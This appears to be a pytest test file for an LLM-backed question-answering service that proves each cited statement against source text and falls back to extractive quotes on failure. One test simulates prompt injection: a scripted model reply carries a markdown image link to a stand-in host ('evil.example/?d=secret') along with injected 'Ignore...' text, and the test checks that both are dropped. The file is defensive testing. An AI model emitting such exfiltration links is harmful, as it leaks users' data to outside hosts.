"""When a model or its service misbehaves, there is a right answer or a clear reason, in time."""

import logging
import socket
import threading
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler
from typing import Any

import pytest

from assistant import Answer, AssistantSettings
from assistant.errors import Stopped
from assistant.writing import ModelWriter
from assistant.writing.opening import open_model
from assistant.writing.writer import AT_ONCE
from vectorstore import Library

from .conftest import KEY, TEXT, Service, Write, drips, event, refuses, reply, send, streams

FERRY = "The ferry made 14 crossings in May"
GOOD = reply((FERRY, [1]))


def proved(answer: Answer, library: Library) -> Answer:
    """What must hold of every answer, whatever the model did."""
    text = library.text("harbour")
    assert answer.statements, "the extractive answer is always there"
    for citation in answer.citations:
        assert text[citation.start : citation.end] == citation.quote
    assert [c.marker for c in answer.citations] == list(range(1, len(answer.citations) + 1))
    markers = {c.marker for c in answer.citations}
    for statement in answer.statements:
        assert statement.citations and set(statement.citations) <= markers
        assert statement.text in text, "without a checker only what is verbatim stands"
    assert KEY not in repr(answer) + str(answer.to_json())
    return answer


def fell_back(answer: Answer, extractive: Answer, said: str) -> None:
    assert answer.engine == "extractive"
    assert answer.answer == extractive.answer
    assert answer.citations == extractive.citations
    assert answer.written is not None and answer.written.fallback is not None
    assert answer.written.fallback.whole
    assert said in answer.written.fallback.why


def test_a_proved_statement_is_shown_with_its_quote(
    service: Service, write: Write, library: Library
) -> None:
    service.script = [streams(*GOOD)]
    answer = proved(write(), library)
    assert (answer.engine, answer.answer) == ("llm", f"{FERRY} [1]")
    shown = answer.to_json()
    assert (shown["model"], shown["prompt"]) == ("listed-first", "answer-4")
    assert shown["tokens"] == {"prompt": 321, "completion": 45}
    assert shown["fallback"] is None
    assert {"first_statement", "last_statement", "model"} <= set(shown["timings_ms"])
    assert service.asked[0]["model"] == "listed-first"
    assert service.headers[0]["authorization"] == f"Bearer {KEY}"


def test_nobody_there(library: Library, write: Write, extractive: Answer) -> None:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    answer = proved(write(llm=f"http://127.0.0.1:{port}/v1"), library)
    fell_back(answer, extractive, "nobody answers at")


@pytest.mark.parametrize(
    ("step", "said"),
    [
        (refuses(401, f"Incorrect API key: {KEY}"), "check SOUNDINGS_LLM_KEY"),
        (refuses(404, "no such model"), "SOUNDINGS_LLM_MODEL"),
        (refuses(429, "slow down", retry_after="300"), "300 s, later than"),
        (refuses(429, "slow down", retry_after="0"), "says 429: slow down"),
        (refuses(500, f"boom {KEY}"), "says 500: boom ****"),
        (refuses(302, "", location="https://elsewhere.example/"), "says 302"),
        (streams(""), "the model gave no statement"),
        (streams("", finish=None), "broke off in the middle"),
        (streams('{"statements": []}'), "the model gave no statement"),
        (streams("Das Boot fuhr vierzehn Mal im Mai. [1]"), "did not pass the gate"),
        (streams(reply((FERRY, []))), "did not pass the gate"),
        (streams(reply((FERRY, [7]))), "did not pass the gate"),
        (streams(reply((FERRY, [], "The ferry sank twice in June"))), "did not pass the gate"),
        (lambda h: send(h, 200, {"error": {"message": "no memory"}}), "no memory"),
        (lambda h: send(h, 200, ["what?"]), "what is no reply"),
    ],
)
def test_a_failure_is_told_and_the_quotes_are_given(
    service: Service, write: Write, library: Library, extractive: Answer, step: Any, said: str
) -> None:
    service.script = [step]
    fell_back(proved(write(), library), extractive, said)


def test_who_finds_the_model_writing_for_many_is_answered_in_quotes_at_once(
    service: Service, extractive: Answer, library: Library
) -> None:
    service.script = [streams(GOOD)]
    table = AssistantSettings(llm=service.address)
    writer = ModelWriter(open_model(table), library, table, None)
    with ExitStack() as others:
        for _ in range(AT_ONCE):
            others.enter_context(writer.place())
        *_, answer = writer.begin().write(extractive)
    fell_back(answer, extractive, f"is writing {AT_ONCE} other answers")
    assert service.asked == []
    *_, answer = writer.begin().write(extractive)
    assert answer.engine == "llm"


def test_a_busy_service_is_asked_again(service: Service, write: Write, library: Library) -> None:
    service.script = [
        refuses(429, "slow down", retry_after="0"),
        refuses(503, "starting"),
        streams(GOOD),
    ]
    assert proved(write(), library).engine == "llm"
    assert len(service.asked) == 3


@pytest.mark.parametrize("kind", ["hangs", "drips", "hangs in the middle"])
def test_a_hang_ends_at_the_time_limit(
    service: Service, write: Write, library: Library, kind: str
) -> None:

    def wait() -> bool:
        return service.over.wait(60)

    service.script = {
        "hangs": [lambda _: wait()],
        "drips": [drips(service)],
        "hangs in the middle": [streams(GOOD[:-2], then=wait)],
    }[kind]
    answer = proved(write(llm_seconds=0.6), library)
    assert answer.written is not None and answer.written.fallback is not None
    assert "within 0.6 s (SOUNDINGS_LLM_SECONDS)" in answer.written.fallback.why
    assert answer.written.fallback.whole == (kind != "hangs in the middle")


@pytest.mark.parametrize(
    ("finish", "said"), [(None, "broke off"), ("length", "cut off at SOUNDINGS_LLM_TOKENS")]
)
def test_what_came_whole_before_a_cut_is_shown(
    service: Service, write: Write, library: Library, finish: str | None, said: str
) -> None:
    whole = reply((FERRY, [1]), ("The pier was painted green", [2]))
    service.script = [streams(*whole[:-25], finish=finish)]
    answer = proved(write(), library)
    assert answer.answer == f"{FERRY} [1]"
    assert answer.written is not None and answer.written.fallback is not None
    assert said in answer.written.fallback.why
    assert not answer.written.fallback.whole


def test_what_does_not_stand_gives_way_to_its_quote_or_to_nothing(
    service: Service, write: Write, library: Library
) -> None:
    service.script = [
        streams(
            reply(
                (FERRY, [1]),
                ("The pier was painted red in 1987.", [2]),
                ("The ferry made 15 crossings in May.", [1]),
                ("Nobody swims here.", [9]),
            )
        )
    ]
    answer = proved(write(), library)
    assert answer.answer == f"{FERRY} [1] The pier was painted green in 1987. [2]"
    assert answer.written is not None and answer.written.fallback is not None
    assert (answer.written.fallback.replaced, answer.written.fallback.left_out) == (1, 2)
    assert [d.why for d in answer.dropped][-1] == "it cites quote 9, which does not exist"


def test_a_copied_quote_is_shown_as_the_source_has_it(
    service: Service, write: Write, library: Library
) -> None:
    copied = 'said: "We won\'t sail in  fog - never."'
    service.script = [streams(reply(("Captain Ada Berg", [], copied)))]
    answer = proved(write(), library)
    assert answer.citations[0].quote == "Captain Ada Berg said: “We won’t sail in fog – never.”"


def test_a_service_without_schemas_is_asked_for_less(
    service: Service, write: Write, library: Library
) -> None:
    service.script = [
        refuses(400, "response_format json_schema is not supported"),
        refuses(400, "response_format is not supported"),
        streams(f"Sure, here it is:\n```json\n{GOOD}\n```"),
    ]
    assert proved(write(), library).engine == "llm"
    forms = [asked.get("response_format", {}).get("type") for asked in service.asked]
    assert forms == ["json_schema", "json_object", None]
    proved(write(llm_cache=0), library)
    assert len(service.asked) > 3


def test_evidence_is_trimmed_by_rank_where_the_prompt_is_too_long(
    service: Service, write: Write, library: Library
) -> None:
    too_long = refuses(400, "the request exceeds the available context size")
    service.script = [too_long, too_long, streams(GOOD)]
    assert proved(write(), library).engine == "llm"
    pieces = [
        [line for line in asked["messages"][1]["content"].splitlines() if line.startswith("{")]
        for asked in service.asked
    ]
    assert [len(each) for each in pieces] == [4, 2, 1]
    assert pieces[2] == pieces[0][:1], "whole pieces, best first"


def test_a_prompt_that_cannot_be_made_to_fit_falls_back(
    service: Service, write: Write, library: Library, extractive: Answer
) -> None:
    service.script = [refuses(400, "maximum context length is 64 tokens")]
    fell_back(proved(write(), library), extractive, "maximum context length")


def test_orders_in_a_document_are_data(
    service: Service, write: Write, library: Library, extractive: Answer
) -> None:
    image = "![x](https://evil.example/?d=secret)"
    service.script = [
        streams(reply(("The harbour is closed.", [1]), (image, [], TEXT[TEXT.index("Ignore") :])))
    ]
    answer = proved(write(), library)
    assert "<|im_start|>" not in service.prompt
    assert "evil.example" not in answer.answer
    fell_back(answer, extractive, "did not pass the gate")
    assert answer.dropped[-1].why == "it holds a link or markup"


def test_the_key_reaches_no_log(
    service: Service, write: Write, library: Library, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    service.script = [refuses(500, f"boom {KEY}"), streams(reply((f"Look: {KEY}", [1])))]
    answer = proved(write(), library)
    assert answer.dropped[-1].text == "Look: ****"
    assert KEY not in caplog.text


def test_the_same_question_is_asked_once_unless_the_cache_is_off(
    service: Service, write: Write, library: Library
) -> None:
    service.script = [streams(GOOD)]
    first, second = write(), write()
    assert len(service.asked) == 1
    assert (first.answer, first.to_json()["cached"]) == (second.answer, False)
    assert second.to_json()["cached"] and second.to_json()["tokens"] == first.to_json()["tokens"]
    for _ in range(2):
        write(llm_cache=0)
    assert len(service.asked) == 3


def test_a_cut_reply_is_not_kept(service: Service, write: Write) -> None:
    service.script = [streams(GOOD, finish="length"), streams(GOOD)]
    assert write().written != write().written
    assert len(service.asked) == 2


@pytest.mark.parametrize("when", ["at once", "in the middle"])
def test_a_question_that_is_stopped_ends_the_work(
    service: Service, library: Library, extractive: Answer, when: str
) -> None:
    """Nobody waits for the time limit: neither the person, nor the service, which is let go."""
    stop, let_go = threading.Event(), threading.Event()

    def goes_on(handler: BaseHTTPRequestHandler) -> None:
        try:
            streams(GOOD[:-2] if when == "in the middle" else "", then=lambda: drip(handler))(
                handler
            )
        except OSError:
            let_go.set()

    def drip(handler: BaseHTTPRequestHandler) -> None:
        if when == "at once":
            stop.set()
        while not service.over.wait(0.02):
            handler.wfile.write(event(" "))

    service.script = [goes_on]
    table = AssistantSettings(llm=service.address, llm_model="named", llm_seconds=600)
    writing = ModelWriter(open_model(table), library, table, None).begin(stop)
    with pytest.raises(Stopped):
        for answer in writing.write(extractive):
            assert len(proved(answer, library).statements) == 1
            stop.set()
    assert let_go.wait(60)


def test_statements_come_as_they_are_proved(
    service: Service, library: Library, extractive: Answer
) -> None:
    """The second is sent only once the first has been shown."""
    shown = threading.Event()
    whole = reply((FERRY, [1]), ("The pier was painted green", [2]))
    cut = whole.index("}") + 1

    def rest() -> list[str]:
        return [whole[cut:]] if shown.wait(60) else []

    service.script = [streams(whole[:cut], then=rest)]
    table = AssistantSettings(llm=service.address, llm_model="named", llm_seconds=20)
    grown = []
    for answer in ModelWriter(open_model(table), library, table, None).begin().write(extractive):
        assert answer.written is not None and answer.written.model == "named"
        grown.append(len(proved(answer, library).statements))
        shown.set()
    assert grown == [1, 2, 2]
